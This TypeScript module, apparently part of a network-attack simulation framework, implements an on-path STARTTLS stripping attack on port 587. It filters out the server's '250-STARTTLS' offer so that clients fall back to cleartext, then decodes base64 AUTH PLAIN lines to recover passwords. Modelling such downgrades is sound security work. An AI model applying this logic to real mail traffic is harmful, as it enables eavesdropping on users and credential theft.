import { type Bytes, concat, EMPTY, fromUtf8, utf8 } from "../bytes/mod.ts";
import type { EventId } from "../trace/mod.ts";
import type { Attack, Line, Position } from "./position.ts";

/**
 * Carries the lines of a mail conversation across and leaves out the one in which the server offers
 * STARTTLS (RFC 3207 §6 describes it). A client that takes TLS only where it is offered then goes
 * on in the clear. Other ports pass her untouched.
 *
 * @param port where mail is handed in with STARTTLS: 587
 */
export function stripStartTls(port: number): Attack {
  return (mallory) => {
    mallory.note(`${mallory.name} is on-path at "${mallory.link}"`);
    mallory.intercept({
      name: "strip STARTTLS",
      onSegment: ({ from, to }) => from.port === port || to.port === port ? "take" : "pass",
    });
    mallory.listenForeign((client, destination, packet) =>
      mallory.connect(destination, {
        onOpen(server) {
          pump(mallory, client, server, (line, event) => {
            readCredentials(mallory, line, event);
            return line;
          });
          pump(mallory, server, client, (line, event) => withoutOffer(mallory, line, event));
        },
        onReset: () => void client.abort(),
      }, { cause: packet })
    );
  };
}

/** Hands whole lines on, as a filter leaves them; what it empties is gone. */
function pump(
  mallory: Position,
  from: Line,
  into: Line,
  filter: (line: string, event: EventId) => string,
): void {
  let held: Bytes = EMPTY;
  from.listen({
    onData(bytes, packet) {
      mallory.learn(bytes, { by: "read", event: packet }, packet);
      held = concat(held, bytes);
      const end = held.lastIndexOf(0x0a) + 1;
      const whole = held.subarray(0, end);
      held = held.slice(end);
      const lines = fromUtf8(whole).split(/(?<=\n)/);
      const kept = lines.map((line) => filter(line, packet));
      const untouched = kept.every((line, i) => line === lines[i]);
      const onward = untouched ? whole : utf8(kept.join(""));
      if (onward.length > 0 && into.state === "open") into.write(onward, packet);
    },
    onEnd: (packet) => void (into.state === "open" && into.end(packet)),
    onReset: (_reason, packet) => void (into.state === "open" && into.abort(packet)),
  });
}

function withoutOffer(mallory: Position, line: string, event: EventId): string {
  if (!/^250-STARTTLS\r?\n$/i.test(line)) return line;
  mallory.note(`${mallory.name} leaves out the offer of STARTTLS`, event);
  return "";
}

/** Passwords travel in base64 (RFC 4616, RFC 4648 §4), which hides nothing. */
function readCredentials(mallory: Position, line: string, event: EventId): void {
  const base64 = /^AUTH PLAIN ([A-Za-z0-9+/=]+)\r?\n$/i.exec(line)?.[1];
  if (base64 === undefined || base64.length % 4 !== 0) return;
  const words = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
  mallory.learn(words, { by: "computed", from: [event], method: "undoing base64" }, event);
}
